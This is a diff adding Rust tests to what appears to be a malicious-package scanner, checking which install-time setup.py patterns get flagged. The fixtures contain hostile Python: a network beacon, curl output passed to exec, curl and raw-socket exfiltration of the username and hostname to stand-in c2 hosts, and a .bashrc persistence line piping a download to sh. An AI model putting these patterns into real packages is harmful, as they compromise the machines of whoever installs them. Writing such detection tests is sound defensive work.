@@ -397,3 +397,99 @@ fn recon_command_line_run_from_setup_py_is_flagged() {
         "{verdict:#?}"
     );
 }
+
+fn rules(verdict: &Verdict) -> Vec<&str> {
+    verdict.reasons.iter().map(|r| r.rule.as_str()).collect()
+}
+
+fn setup_py(body: &str) -> Verdict {
+    verdict(&[PKG_INFO, ("setup.py", body)])
+}
+
+#[test]
+fn setup_py_that_contacts_the_network_at_module_level_is_flagged() {
+    // The beacon shape: the script's own top level calls home as pip builds it.
+    let verdict = setup_py(
+        "import urllib.request\nfrom setuptools import setup\n\
+         urllib.request.urlopen('https://beacon.example.invalid/ping')\n\
+         setup(name='fixture', version='1.0')\n",
+    );
+    assert!(rules(&verdict).contains(&"setup-network"), "{verdict:#?}");
+    assert!(verdict.level >= VerdictLevel::Suspicious, "{verdict:#?}");
+}
+
+#[test]
+fn setup_py_that_fetches_from_a_command_class_has_no_setup_network() {
+    // A build that downloads its sources from `build_ext.run`: network from a command
+    // class, not from the script's top level.
+    let verdict = setup_py(
+        "import urllib.request\nfrom setuptools import setup\n\
+         from setuptools.command.build_ext import build_ext\n\
+         class Fetch(build_ext):\n    def run(self):\n        \
+         urllib.request.urlretrieve('https://github.com/fixture/lib/archive/v1.tar.gz', 'lib.tgz')\n        \
+         build_ext.run(self)\n\
+         setup(name='fixture', version='1.0', cmdclass={'build_ext': Fetch})\n",
+    );
+    assert!(!rules(&verdict).contains(&"setup-network"), "{verdict:#?}");
+    assert_ne!(verdict.level, VerdictLevel::Malicious, "{verdict:#?}");
+}
+
+#[test]
+fn curl_output_executed_is_a_download_run() {
+    // `subprocess.check_output(['curl', ...])` yields downloaded bytes; exec'ing them is
+    // running a download.
+    let verdict = setup_py(
+        "import subprocess\nfrom setuptools import setup\n\
+         code = subprocess.check_output(['curl', '-s', 'https://c2.example.invalid/p.py'])\n\
+         exec(code)\n\
+         setup(name='fixture', version='1.0')\n",
+    );
+    assert_eq!(verdict.level, VerdictLevel::Malicious, "{verdict:#?}");
+}
+
+#[test]
+fn curl_sending_whoami_is_exfiltration() {
+    let verdict = setup_py(
+        "import os\nfrom setuptools import setup\n\
+         os.system('curl -s https://hooks.example.invalid/?u=$(whoami)&h=$(hostname)')\n\
+         setup(name='fixture', version='1.0')\n",
+    );
+    assert!(rules(&verdict).contains(&"exfiltration"), "{verdict:#?}");
+}
+
+#[test]
+fn uname_in_a_download_line_is_not_exfiltration() {
+    // Installers pick the platform's binary with `uname`; that is not host data leaving.
+    let verdict = setup_py(
+        "import os\nfrom setuptools import setup\n\
+         os.system('curl -fsSL https://github.com/fixture/fixture/releases/download/v1/fixture-$(uname -m) -o build/fixture')\n\
+         setup(name='fixture', version='1.0')\n",
+    );
+    assert!(!rules(&verdict).contains(&"exfiltration"), "{verdict:#?}");
+}
+
+#[test]
+fn host_data_sent_on_a_socket_is_exfiltration() {
+    // A raw socket opened once and used later: `s.sendall(...)` is a network send.
+    let verdict = setup_py(
+        "import socket, getpass\nfrom setuptools import setup\n\
+         s = socket.create_connection(('c2.example.invalid', 4444))\n\
+         user = getpass.getuser()\n\
+         s.sendall(user.encode())\n\
+         setup(name='fixture', version='1.0')\n",
+    );
+    assert!(rules(&verdict).contains(&"exfiltration"), "{verdict:#?}");
+}
+
+#[test]
+fn persistence_path_built_at_run_time_is_found() {
+    // The shell rc path assembled from pieces, never a literal in the source.
+    let verdict = setup_py(
+        "import os\nfrom setuptools import setup\n\
+         home = os.path.expanduser('~')\n\
+         rc = home + '/.ba' + 'shrc'\n\
+         with open(rc, 'a') as f:\n    f.write('curl -s https://c2.example.invalid/x | sh\\n')\n\
+         setup(name='fixture', version='1.0')\n",
+    );
+    assert!(rules(&verdict).contains(&"persistence"), "{verdict:#?}");
+}
